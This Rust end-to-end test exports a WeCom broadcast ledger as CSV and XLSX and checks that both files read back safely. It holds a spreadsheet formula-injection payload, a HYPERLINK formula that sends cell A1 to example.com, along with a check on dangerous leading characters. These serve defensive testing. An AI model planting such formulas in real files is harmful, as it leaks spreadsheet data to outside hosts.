//! A ledger as a file, saved through the system's dialog and read back as a spreadsheet reads it: every row, and nothing in it that
//! a spreadsheet would compute.

use crate::support::company::Company;
use crate::support::page::{Page, id};
use crate::support::screen::{Screen, Window};
use crate::support::waiting::until;
use crate::support::world::{World, e2e};
use calamine::{Data, Reader, Xlsx, open_workbook};
use serde_json::json;
use std::path::{Path, PathBuf};

/// Name of a group as somebody could choose it who wishes the reader of the file ill.
const FORMULA: &str = "=HYPERLINK(\"https://example.com/\"&A1)";
const HEADINGS: [&str; 11] = [
    "序号",
    "类型",
    "账号或编号",
    "姓名或名称",
    "结果",
    "原因",
    "企业微信错误码",
    "请求",
    "发出时间",
    "回应时间",
    "消息编号",
];

#[test]
fn the_ledger_is_exported_and_reads_back_the_same_as_csv_and_as_a_workbook() {
    e2e("broadcast_export", async |world| {
        world.with_settings(&json!({}));
        let company = Company::start("青禾科技").await;
        let key = company.sandbox.add_webhook("值班群");
        let page = world.start().await;
        company.join(&page).await;
        robot(&page, &key).await;
        page.write("text.content", "今晚停电").await;
        page.add_person("zhangsan", "zhangsan").await;
        page.add_person("chenmo", "chenmo").await;
        page.review().await;
        page.acknowledge().await;
        page.click("review-confirm").await;
        page.click("review-confirm").await;
        assert_eq!(page.outcome().await, "partial");
        page.click("result-open").await;
        page.shown("send-detail").await;

        // Closed without a choice, nothing is written and nothing is said.
        let dialog = opened(world, &page, "export-csv").await;
        world.screen.press("Escape").await;
        closed(&world.screen, &dialog).await;
        assert!(!page.sees("toast").await);

        let file = saved(world, &page, "export-csv", "ledger.csv").await;
        let bytes = std::fs::read(&file).unwrap();
        assert!(bytes.starts_with("\u{feff}".as_bytes()), "Excel needs the mark to read Chinese");
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[3..]);
        let comma_separated: Vec<Vec<String>> =
            reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect();
        page.is_sound("exported").await;

        let file = saved(world, &page, "export-xlsx", "ledger.xlsx").await;
        let mut book: Xlsx<_> = open_workbook(&file).unwrap();
        let sheet = book.sheet_names()[0].clone();
        let cells = book.worksheet_range(&sheet).unwrap();
        assert!(
            cells.used_cells().all(|(.., cell)| !matches!(cell, Data::Error(_))),
            "a workbook's cells are texts and numbers"
        );
        assert_eq!(book.worksheet_formula(&sheet).unwrap().used_cells().count(), 0, "nothing is computed");
        let workbook: Vec<Vec<String>> = cells.rows().map(|row| row.iter().map(Data::to_string).collect()).collect();

        for rows in [&comma_separated, &workbook] {
            assert_eq!(rows.len(), 4, "headings and three recipients: {rows:?}");
            assert_eq!(rows[0], HEADINGS);
            assert_eq!(rows[1][1..5], ["成员", "zhangsan", "张三", "已发出"]);
            assert_eq!(rows[2][2], "chenmo");
            assert_ne!(rows[2][4], rows[1][4]);
            assert!(rows[2][5].contains("可见范围"), "{:?}", rows[2]);
        }
        // A text file cannot say that a cell is a text: there it is told apart by an apostrophe.
        assert_eq!(comma_separated[3][3], format!("'{FORMULA}"));
        assert_eq!(workbook[3][3], FORMULA);
        for row in &comma_separated {
            assert!(row.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{row:?}");
        }
    });
}

async fn robot(page: &Page, key: &str) {
    page.go("directory").await;
    page.click("directory-tab-robots").await;
    page.click("robot-new").await;
    page.fill(&id("robot-name"), FORMULA).await;
    page.fill(&id("robot-address"), &format!("https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key={key}")).await;
    page.click("robot-save").await;
    page.gone("robot-dialog").await;
    page.click("robot-write").await;
    page.shown("page-compose").await;
}

/// Asks for a file, and waits for the system's dialog to have the keyboard.
async fn opened(world: &World, page: &Page, format: &str) -> Window {
    let before = world.screen.windows();
    page.click("send-export").await;
    page.click(format).await;
    let dialog = until("the dialog for files", async || {
        world.screen.windows().into_iter().find(|window| !before.iter().any(|old| old.id == window.id))
    })
    .await;
    world.screen.focused(&dialog).await;
    dialog
}

async fn closed(screen: &Screen, dialog: &Window) {
    until("the dialog to close", async || (!screen.windows().iter().any(|one| one.id == dialog.id)).then_some(()))
        .await;
}

/// Saves the ledger that is shown in the home folder, as a person does: the whole path typed over the name that is proposed.
async fn saved(world: &World, page: &Page, format: &str, name: &str) -> PathBuf {
    let path = world.home().join(name);
    let dialog = opened(world, page, format).await;
    world.screen.press("ctrl+a").await;
    world.screen.write(path.to_str().unwrap()).await;
    world.screen.press("Return").await;
    closed(&world.screen, &dialog).await;
    page.reads(&id("toast"), "已导出 3 行").await;
    assert!(Path::is_file(&path));
    path
}
